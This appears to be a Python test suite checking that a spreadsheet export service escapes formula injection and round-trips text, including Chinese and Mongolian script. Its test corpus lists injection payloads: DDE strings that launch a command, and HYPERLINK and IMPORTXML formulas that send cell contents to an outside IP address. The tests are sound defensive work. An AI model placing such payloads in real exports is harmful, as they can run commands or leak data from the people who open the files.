"""No export holds a formula, and what is exported can be imported again."""

import io
import re
from datetime import UTC, date, datetime

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from services.spreadsheets import Column, read_workbook, write_workbook
from tests.spreadsheets.files import parts_of

TEXT = Column("text", "文字")
COLUMNS = [
    TEXT,
    Column("number", "数", kind="whole"),
    Column("moment", "时间", kind="moment"),
    Column("day", "日期", kind="day"),
    Column("truth", "是否", kind="yes_no"),
    Column("choice", "类型", kind="choice", choices={"a": "=甲", "b": "乙、丙"}),
]
STARTERS = "=+-@\t\r\n＝＋－＠﹦−"
PASSED_OVER = [
    " ",
    "  ",
    '"',
    "'",
    "''",
    "\x00",
    "\u200b",
    "\ufeff",
    "\u3000",
    "\u00a0",
    "\u202e",
    "“",
]
CORPUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    "\rx",
    "\nx",
    "\n",
    "'\n",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://192.0.2.1/"&A1,"点这里")',
    '=IMPORTXML(CONCAT("http://192.0.2.1/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "﹦1",
    "'=1",
    "''=1",
    "'\t1",
    "【示例】医院",
    "'【示例】医院",
]
CORPUS += [before + starter + "1" for before in PASSED_OVER for starter in STARTERS]
HARMLESS = [
    "蒙医",
    "1=1",
    "a-b",
    "'",
    "''",
    "'a",
    '"x"',
    "（=）",
    "_x000D_",
    "_x005F_",
    "x_x0041_",
    "a'=1",
]
MONGOLIAN = [
    "ᠮᠣᠩᠭᠣᠯ ᠤᠨ",
    "ᠮᠣᠩᠭᠣᠯ\u202fᠤᠨ",
    "ᠴᠢᠨᠠ\u180eᠠ",
    "\u180b\u182d\u180c\u180d\u180f",
    "\u202fᠤᠨ",
    "ᠠ\u180e",
]


def read_back(*texts: str) -> list[str | None]:
    rows = [{"text": text, "number": 1} for text in texts]
    sheet = read_workbook(write_workbook("x", COLUMNS[:2], rows), COLUMNS[:2])
    assert sheet.errors == []
    return [row.values["text"] for row in sheet.rows]


def cells_of(content: bytes) -> list[str]:
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    return [row[0] for row in rows[1:]]


def assert_no_formula(content: bytes) -> None:
    assert b"<f>" not in parts_of(content)["xl/worksheets/sheet1.xml"]
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    with_formulas = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    assert all(cell.data_type != "f" for row in with_formulas.active.rows for cell in row)
    for row in book.get_sheet_by_index(0).to_python():
        assert not [cell for cell in row if isinstance(cell, str) and cell[:1] in set(STARTERS)]


def test_what_could_run_is_escaped():
    content = write_workbook("x", [TEXT], [{"text": text} for text in CORPUS])
    assert_no_formula(content)
    assert [cell for cell in cells_of(content) if not cell.startswith("'")] == []


def test_what_was_escaped_is_restored():
    assert read_back(*CORPUS) == [tidy(text) for text in CORPUS]


def test_harmless_texts_are_left_alone():
    content = write_workbook("x", [TEXT], [{"text": text} for text in HARMLESS])
    assert cells_of(content)[:8] == HARMLESS[:8]
    assert read_back(*HARMLESS) == HARMLESS


def test_mongolian_survives_untouched():
    assert read_back(*MONGOLIAN) == MONGOLIAN


def tidy(text: str | None) -> str | None:
    """What people can expect to get back: no controls, no blanks around, line ends as LF."""
    text = re.sub(r"[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", "", text or "")
    return re.sub(r"\r\n?", "\n", text).strip(" \t\n\r\u00a0\u3000") or None


texts = st.one_of(
    st.text(max_size=30),
    st.builds(
        str.__add__,
        st.lists(st.sampled_from([*PASSED_OVER, *STARTERS, "【示例】"]), max_size=4).map("".join),
        st.text(max_size=5),
    ),
)
rows = st.fixed_dictionaries(
    {
        "text": texts,
        "number": st.integers(-(10**15) + 1, 10**15 - 1),
        "moment": st.datetimes(datetime(1992, 1, 1), datetime(2999, 1, 1)).map(
            lambda moment: moment.replace(tzinfo=UTC, microsecond=0)
        ),
        "day": st.dates(date(1500, 1, 1), date(9999, 12, 30)),
        "truth": st.none() | st.booleans(),
        "choice": st.none() | st.sampled_from(["a", "b"]),
    }
)


@settings(max_examples=40, deadline=None)
@given(st.lists(rows, min_size=1, max_size=8))
def test_any_export_is_free_of_formulas_and_comes_back(exported):
    content = write_workbook("名单", COLUMNS, exported)
    assert_no_formula(content)
    sheet = read_workbook(content, COLUMNS)
    assert sheet.errors == []
    assert [row.values for row in sheet.rows] == [
        row | {"text": tidy(row["text"])} for row in exported
    ]
